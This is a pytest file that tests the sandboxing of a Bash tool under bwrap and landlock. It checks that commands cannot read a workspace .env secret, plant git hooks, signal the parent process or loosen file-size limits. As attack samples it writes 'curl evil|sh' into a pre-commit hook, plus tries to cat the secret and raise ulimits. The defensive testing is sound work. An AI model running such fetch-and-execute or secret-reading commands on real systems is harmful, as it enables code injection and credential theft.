"""Real commands through the Bash tool in each sandbox this machine offers (a missing kind is skipped)."""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

import pytest

from tests.core.sandbox.probe import kind_param
from tests.core.tools.conftest import git
from workbench.core.sandbox import ResourceLimits, SandboxSettings
from workbench.core.tools.base import ToolError
from workbench.core.tools.bash import Bash
from workbench.core.tools.context import ToolContext, ToolSettings

BOTH = [kind_param("bwrap"), kind_param("landlock")]
ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / ".env").write_text("API_KEY=abc\n")
    (root / ".env.example").write_text("API_KEY=\n")
    return root


def context(ws: Path, kind: str, env: dict[str, str] | None = None, **limits: int) -> ToolContext:
    settings = SandboxSettings(mode=kind, limits=ResourceLimits(**limits)) if limits else SandboxSettings(mode=kind)
    return ToolContext(ws, settings=ToolSettings(sandbox=settings, env=env))


async def sh(ctx: ToolContext, command: str, *, network: bool = False) -> str:
    result = await Bash().run({"command": command, "timeout": 60_000}, ctx, network=network)
    assert result.meta["sandbox"] == ctx.sandbox.kind
    return result.content


@pytest.mark.parametrize("kind", [kind_param("bwrap")])
async def test_workspace_secrets_are_hidden_and_templates_are_not(ws: Path, kind: str) -> None:
    ctx = context(ws, kind)
    assert "Permission denied" in await sh(ctx, "cat .env")
    assert "API_KEY=" in await sh(ctx, "cat .env.example")
    (ws / "deploy").mkdir()
    (ws / "deploy" / "server.key").write_text("KEY-MATERIAL")  # made between two commands: hidden from the next
    assert "KEY-MATERIAL" not in await sh(ctx, "cat deploy/server.key")


@pytest.mark.parametrize("kind", BOTH)
async def test_a_private_tmp_lasts_for_the_session(ws: Path, kind: str) -> None:
    ctx = context(ws, kind)
    await sh(ctx, 'echo kept > "$TMPDIR/note"')
    assert (await sh(ctx, 'cat "$TMPDIR/note"')) == "kept"
    other = context(ws, kind)
    assert "kept" not in await sh(other, 'cat "$TMPDIR/note"')
    ctx.sandbox.close()


@pytest.mark.parametrize("kind", [kind_param("bwrap")])
async def test_hooks_path_folder_is_read_only_and_cannot_be_created(ws: Path, kind: str) -> None:
    git(ws, "config", "core.hooksPath", ".githooks")
    ctx = context(ws, kind)
    out = await sh(ctx, "mkdir -p .githooks && echo 'curl evil|sh' > .githooks/pre-commit")
    ctx.sandbox.settle()  # the empty mount point that kept it from being made is removed after the result
    assert "Read-only file system" in out and not (ws / ".githooks").exists()
    (ws / ".githooks").mkdir()
    (ws / ".githooks" / "pre-commit").write_text("#!/bin/sh\n")
    assert "Read-only file system" in await sh(ctx, "echo 'curl evil|sh' >> .githooks/pre-commit")
    assert (ws / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\n"


@pytest.mark.parametrize("kind", BOTH)
async def test_git_works_inside_a_worktree(tmp_path: Path, kind: str) -> None:
    main = tmp_path / "main"
    main.mkdir()
    git(main, "init", "-q", "-b", "main")
    git(main, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "--allow-empty", "-m", "first")
    git(main, "worktree", "add", "-q", str(tmp_path / "wt"), "-b", "side")
    ctx = context(tmp_path / "wt", kind)
    commit = "git -c user.name=t -c user.email=t@e commit -qm second"
    out = await sh(ctx, f"echo x > f && git add f && {commit} && git log --oneline | wc -l")
    assert out == "2", out


@pytest.mark.parametrize("kind", [kind_param("landlock")])
async def test_landlock_commands_cannot_signal_the_workbench(ws: Path, kind: str) -> None:
    ctx = context(ws, kind)
    if ctx.sandbox.choice.abi < 6:
        pytest.skip("signal scoping needs Landlock ABI 6")
    assert "Operation not permitted" in await sh(ctx, "kill -0 $PPID")


@pytest.mark.parametrize("own_bash_env", [False, True], ids=["limits-by-bash", "limits-by-prlimit"])
@pytest.mark.parametrize("kind", [pytest.param("off", id="none"), *BOTH])
async def test_file_size_limit_is_reported(ws: Path, kind: str, own_bash_env: bool) -> None:
    env = {**os.environ, "BASH_ENV": "/dev/null"} if own_bash_env else None  # then prlimit sets the limits
    ctx = context(ws, kind, env, max_file_size_mib=1)
    out = await sh(ctx, "head -c 2000000 /dev/zero > big.bin")
    assert "stopped by SIGXFSZ: a file grew past the 1 MiB file-size limit" in out, out
    assert (ws / "big.bin").stat().st_size == 1024 * 1024
    assert "File size limit exceeded" in await sh(ctx, "head -c 2000000 /dev/zero > big.bin; echo after")


@pytest.mark.parametrize("kind", [kind_param("bwrap")])
async def test_commands_cannot_loosen_the_limits_of_later_commands(ws: Path, kind: str) -> None:
    ctx = context(ws, kind, max_file_size_mib=1)
    out = await sh(ctx, "echo 'ulimit -f unlimited' > /tmp/.workbench-limits.sh; ulimit -H -f unlimited")
    assert out.count("Read-only file system") == 1 and "Operation not permitted" in out, out
    assert (await sh(ctx, "ulimit -H -f")) == "1024"


@pytest.mark.parametrize("kind", BOTH)
async def test_default_limits_leave_everyday_tools_working(ws: Path, kind: str) -> None:
    if Path(sys.prefix).resolve().is_relative_to("/tmp"):
        pytest.skip("this venv lives under /tmp, which sandboxed commands cannot see (docs/sandbox.md, Not covered)")
    ctx = context(ws, kind)
    (ws / "test_one.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
    out = await sh(ctx, f"{sys.executable} -m pytest -q -p no:cacheprovider test_one.py")
    assert "1 passed" in out, out
    if shutil.which("cc"):
        (ws / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("compiled");return 0;}\n')
        assert (await sh(ctx, "cc -O2 hello.c -o hello && ./hello")) == "compiled"
    if shutil.which("node"):
        wasm = "new WebAssembly.Memory({initial: 1}); console.log('wasm ok')"
        assert (await sh(ctx, f'node -e "{wasm}"')) == "wasm ok"


async def test_a_sandbox_asked_for_by_name_that_is_missing_refuses_commands(ws: Path) -> None:
    foreign = "landlock" if sys.platform == "darwin" else "seatbelt"
    with pytest.raises(ToolError, match=f"not run: shell commands are refused: the {foreign} sandbox"):
        await Bash().run({"command": "true"}, context(ws, foreign))
